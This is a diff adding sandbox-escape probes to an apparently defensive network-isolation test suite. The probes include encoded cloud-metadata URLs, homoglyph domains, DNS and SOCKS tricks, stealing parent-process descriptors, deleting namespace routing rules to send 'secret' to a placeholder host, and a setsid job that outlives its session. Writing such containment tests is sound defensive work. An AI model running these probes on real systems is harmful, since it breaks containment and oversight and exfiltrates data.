@@ -262,6 +262,73 @@ WAYS: dict[str, Call] = {
         "python3 -c \"import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect('$s'); print('open')\"; done; "
         "getent ahosts leak.HOST"
     ),
+    # names that look like others, and questions of every kind
+    "a name in letters that look alike": _tcp("('ok.gr\\u0430nted.test', 80)"),
+    "a granted name before another": _tcp("('ok.granted.test.HOST', 80)"),
+    "the name above those granted": _tcp("('granted.test', 80)"),
+    "questions of every kind over tcp": py(
+        f"{_S}{_QUERY}"
+        "for kind in (2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 252, 255):\n"
+        "    s = socket.create_connection(('127.0.0.1', 53)); m = q[:-4] + struct.pack('!HH', kind, 1)\n"
+        "    s.sendall(struct.pack('!H', len(m)) + m); print(kind, s.recv(512))"
+    ),
+    "two questions in one": py(
+        f"{_S}{_QUERY}m = q[:5] + b'\\2' + q[6:] + q[12:]\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(m, ('127.0.0.1', 53)); print(s.recv(512))"
+    ),
+    "a question to the address of a granted name": py(
+        f"{_S}{_QUERY}a = socket.gethostbyname('ok.granted.test')\n"
+        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, (a, 53)); print(s.recv(512))"
+    ),
+    "a domain that is searched": sh("LOCALDOMAIN=HOST RES_OPTIONS=ndots:9 getent ahosts secret-words"),
+    # made-up addresses
+    "the address after that of a granted name": py(
+        f"{_S}a = socket.gethostbyname('ok.granted.test'); a = socket.inet_ntoa(struct.pack('!I', "
+        "struct.unpack('!I', socket.inet_aton(a))[0] + 1)); s = socket.create_connection((a, 80)); print(s.recv(9))"
+    ),
+    "a made-up address in IPv6": py(
+        f"{_S}s = socket.socket(socket.AF_INET6); s.connect(('::ffff:' + socket.gethostbyname('HOST'), 80)); s.recv(9)"
+    ),
+    "a made-up address through the proxy": py(
+        f"{_S}a = socket.inet_aton(socket.gethostbyname('HOST')); s = socket.create_connection(('127.0.0.1', 1080))\n"
+        "s.sendall(b'\\5\\1\\0'); s.recv(2); s.sendall(b'\\5\\1\\0\\1' + a + b'\\0\\x50'); print(s.recv(20))"
+    ),
+    "datagrams through the proxy": py(
+        f"{_S}s = socket.create_connection(('127.0.0.1', 1080)); s.sendall(b'\\5\\1\\0'); s.recv(2)\n"
+        "s.sendall(b'\\5\\3\\0\\1' + socket.inet_aton('ADDR') + b'\\0\\x35'); print(s.recv(20))"
+    ),
+    # the metadata address in other words
+    "the metadata address in octal": sh("curl -sS -m 1 http://0251.0376.0251.0376/"),
+    "the metadata address in three numbers": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 http://169.254.43518/"),
+    "the metadata address in IPv6": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[::ffff:a9fe:a9fe]/'"),
+    "the metadata address translated": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[64:ff9b::a9fe:a9fe]/'"),
+    "the metadata address of IPv6": sh("curl -sS -m 3 -p -x http://127.0.0.1:1080 'http://[fd00:ec2::254]/'"),
+    # the person's loopback in other words
+    "a server of the person's by other names": sh(
+        "for h in ip6-localhost x.localhost 127.1 0 '[::]' $(hostname); do curl -sS -m 0.5 http://$h:8000/; "
+        "curl -sS -m 0.5 -p -x http://127.0.0.1:1080 http://$h:8000/; done"
+    ),
+    # rarer sockets, and other people's descriptors
+    "sockets of rarer kinds": py(
+        f"{_S}for family, kind, number in ((43, 1, 0), (2, 6, 33), (21, 5, 0), (30, 1, 0), (44, 3, 0), (2, 1, 256)):\n"
+        "    try: s = socket.socket(family, kind, number); s.connect(('ADDR', 80)); print('open', family)\n"
+        "    except (OSError, TypeError, OverflowError) as e: print(family, e)"
+    ),
+    "descriptors of the process above": py(
+        f"{_S}import ctypes\nc = ctypes.CDLL(None, use_errno=True)\nfor pid in (1, os.getppid()):\n"
+        "    p = c.syscall(434, pid, 0)\n    for n in range(64):\n        f = c.syscall(438, p, n, 0)\n"
+        "        if f >= 0:\n            try: socket.socket(fileno=f).sendto(b'x', ('ADDR', 80)); print('sent')\n"
+        "            except OSError as e: pass"
+    ),
+    "rules of the namespace taken away": py(
+        f"{_S}s = socket.socket(16, socket.SOCK_RAW, 0); b = struct.pack('=BBBBBBBBI', 2, 15, 0, 0, 0, 0, 0, 7, 0)\n"
+        "b += struct.pack('=HHI', 8, 6, 1) + struct.pack('=HH4s', 8, 1, socket.inet_aton('198.18.0.0'))\n"
+        "s.send(struct.pack('=IHHII', 16 + len(b), 33, 5, 1, 0) + b); print(s.recv(4096))\n"
+        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'secret', ('HOST', 443))"
+    ),
+    "a process that has left its session": background(
+        "setsid sh -c '(sleep 0.3; curl -sS -m 3 http://HOST/; curl -sS -m 3 http://ADDR/) &' < /dev/null"
+    ),
     "abstract sockets": py(
         f"{_S}for line in open('/proc/net/unix').read().splitlines()[1:]:\n    name = line.split()[-1]\n"
         "    if name.startswith('@'):\n        s = socket.socket(socket.AF_UNIX)\n"
@@ -273,5 +340,17 @@ HELD_ANYWAY = frozenset(
     {
         *("raw packets", "frames", "sctp", "another namespace", "a namespace of its own", "whole packets of its own"),
         *("a server at a made-up address", "the machine that runs this one", "abstract sockets"),
+        *("sockets of rarer kinds", "descriptors of the process above"),
+        # and these are words to the resolver and the proxy of a session's own network
+        *("questions of every kind over tcp", "two questions in one", "datagrams through the proxy"),
+        *("a made-up address through the proxy", "the metadata address in three numbers"),
+        *("the metadata address in IPv6", "the metadata address translated", "the metadata address of IPv6"),
+    }
+)
+# Where the network is open, these wait for a resolver that never answers, longer than a session has.
+SLOW_WHEN_OPEN = frozenset(
+    {
+        *("a name in letters that look alike", "a granted name before another", "the name above those granted"),
+        *("a domain that is searched", "a server of the person's by other names"),
     }
 )
